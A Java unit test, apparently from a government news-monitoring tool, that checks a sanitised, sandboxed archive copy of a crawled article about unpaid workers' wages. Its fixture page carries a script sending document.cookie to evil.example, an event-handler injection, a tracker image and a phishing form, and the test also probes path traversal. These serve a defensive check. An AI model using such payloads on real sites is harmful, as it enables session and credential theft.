package io.yuqing.app;

import io.yuqing.alerting.Alert;
import io.yuqing.alerting.AlertFilter;
import io.yuqing.app.service.YuqingService;
import io.yuqing.core.config.ConfigLoader;
import io.yuqing.core.config.YuqingConfig;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicBoolean;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Reviewers see a sanitised copy of the page behind an alert — also after the site deleted it — served under a policy
 * that lets nothing run or load, whatever the page carried.
 */
class PageCopyTest {
    @TempDir
    Path dir;

    private static final String ARTICLE = """
            <html><head><meta charset="gbk"><title>恒达建设工地拖欠农民工工资 - 青州新闻网</title>
            <script>fetch('https://evil.example/steal?c='+document.cookie)</script></head>
            <body><h1>恒达建设工地拖欠农民工工资</h1><p class="time">2026-11-24 09:30</p>
            <div class="article"><p onmouseover="alert(1)">青州恒达建设集团有限公司承建的滨江工地拖欠农民工工资，数十名工人聚集讨薪。</p>
            <p>工人表示工资已拖欠三个月，多次讨要未果，劳动监察部门已介入调查。<img src="https://tracker.example/p.gif"></p>
            <form action="https://evil.example/phish"><input name="pw"></form></div></body></html>
            """;

    @Test
    void theKeptCopyOutlivesTheOriginalAndCarriesNothingThatRuns() throws Exception {
        AtomicBoolean deleted = new AtomicBoolean();
        try (LoopbackSite site = LoopbackSite.start(exchange -> {
            String path = exchange.getRequestURI().getPath();
            String base = "http://127.0.0.1:" + exchange.getLocalAddress().getPort();
            if (path.equals("/rss.xml")) {
                return LoopbackSite.Reply.of(200, "application/rss+xml",
                        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"><channel><title>青州新闻网</title>"
                        + "<item><title>恒达建设工地拖欠农民工工资</title><link>" + base + "/news/1.html</link></item></channel></rss>");
            } else if (path.equals("/news/1.html") && !deleted.get()) {
                return new LoopbackSite.Reply(200, "text/html", ARTICLE.getBytes(java.nio.charset.Charset.forName("GBK")));
            }
            return LoopbackSite.Reply.of(404, "text/html", "<h1>该文章已被删除</h1>");
        })) {
            YuqingConfig config = new ConfigLoader().load("""
                    dataDir: %s
                    crawler:
                      politenessDelay: 0ms
                    desks:
                      - id: publicity
                        name: 宣传部
                        recipients: [xc@example.gov.cn]
                    watchlist:
                      enterprises:
                        - name: 青州恒达建设集团有限公司
                          shortNames: [恒达建设]
                    sources:
                      - id: site
                        kind: rss
                        url: %s/rss.xml
                        allowPrivateNetwork: true
                    """.formatted(dir.resolve("data"), site.base()), "test.yml");
            try (ServiceFixture app = ServiceFixture.on(config).admin().start()) {
                YuqingService service = app.service();
                service.crawlOnce();
                List<Alert> alerts = service.alerts().list(AlertFilter.all(), 0, 10);
                assertEquals(1, alerts.size(), "the wage-arrears article alerts");
                Alert alert = alerts.getFirst();
                deleted.set(true);

                ConsoleClient admin = app.loggedIn("admin");
                String detail = admin.get("/alerts/" + alert.id()).body();
                assertTrue(detail.contains("id=\"page-copy\""), detail);

                HttpResponse<String> copy = admin.get("/documents/" + alert.documentId() + "/copy");
                assertEquals(200, copy.statusCode());
                String csp = copy.headers().firstValue("Content-Security-Policy").orElse("");
                assertTrue(csp.contains("sandbox") && csp.contains("default-src 'none'") && !csp.contains("allow-scripts"), csp);
                String body = copy.body();
                assertTrue(body.contains("数十名工人聚集讨薪") && body.contains("网页存档"), "the text, decoded from GBK: " + body);
                String lower = body.toLowerCase(Locale.ROOT);
                for (String banned : List.of("<script", "onmouseover", "<img", "<form", "<input", "evil.example", "tracker.example")) {
                    assertFalse(lower.contains(banned), banned + " in the copy");
                }
                assertEquals(404, admin.get("/documents/" + "0".repeat(32) + "/copy").statusCode());
                assertEquals(404, admin.get("/documents/..%2F..%2Fetc/copy").statusCode());

                ConsoleClient anonymous = app.client();
                assertFalse(anonymous.get("/documents/" + alert.documentId() + "/copy").body().contains("聚集讨薪"),
                        "only staff who are logged in see copies");
            }
        }
    }
}
